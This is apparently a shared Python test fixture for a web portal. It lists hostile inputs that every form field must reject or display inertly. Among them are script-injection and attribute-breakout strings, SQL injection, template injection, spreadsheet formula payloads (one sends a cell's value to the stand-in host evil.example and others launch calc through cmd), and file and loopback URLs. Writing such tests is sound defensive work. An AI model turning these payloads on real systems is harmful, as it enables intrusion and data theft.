"""Hostile values every form field in the portal must survive: refused with a clear
message, or stored and shown inert. Shared by every area's tests."""

ONE_MEGABYTE = "A" * (1024 * 1024)

HOSTILE_VALUES: dict[str, str] = {
    "script tag": "<script>alert('oxlo')</script>",
    "attribute breakout": '"><img src=x onerror=alert(1)>',
    "single-quote breakout": "' onmouseover='alert(1)",
    "javascript url": "javascript:alert(document.cookie)",
    "template syntax": "{{ request.user.password }}{% debug %}",
    "sql fragment": "'; DROP TABLE reporting_report; --",
    "sql tautology": "1' OR '1'='1",
    "formula hyperlink": '=HYPERLINK("http://evil.example/?"&A1,"Klikk")',
    "formula plus": "+cmd|' /C calc'!A0",
    "formula at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula minus": "-2+3+cmd|' /C calc'!A0",
    "file url": "file:///etc/passwd",
    "loopback url": "http://127.0.0.1:8000/admin/",
    "one megabyte": ONE_MEGABYTE,
    "control characters": "før\x01\x02\x07\x1b[31metter\x7f",
    "nul byte": "null\x00byte",
    "json nul escape": '["\\u0000"]',
    "right-to-left override": "fil\u202egnp.exe",
    "zero-width and bom": "\ufeffusynlig\u200btekst\u200d",
    "emoji": "Mangfold 🏳️‍🌈👩🏽‍🦽✊🏿",
    "malformed number": "1,2.3e999",
    "negative huge number": "-99999999999999999999999999999",
    "not a number": "NaN",
    "only whitespace": " \t\n ",
}

# Characters that make a value dangerous in HTML when not escaped.
MARKUP = set("<>\"'")


def shown_raw(value: str, html: str) -> bool:
    """True if `value` with markup characters appears unescaped in `html`."""
    return bool(MARKUP & set(value)) and value in html
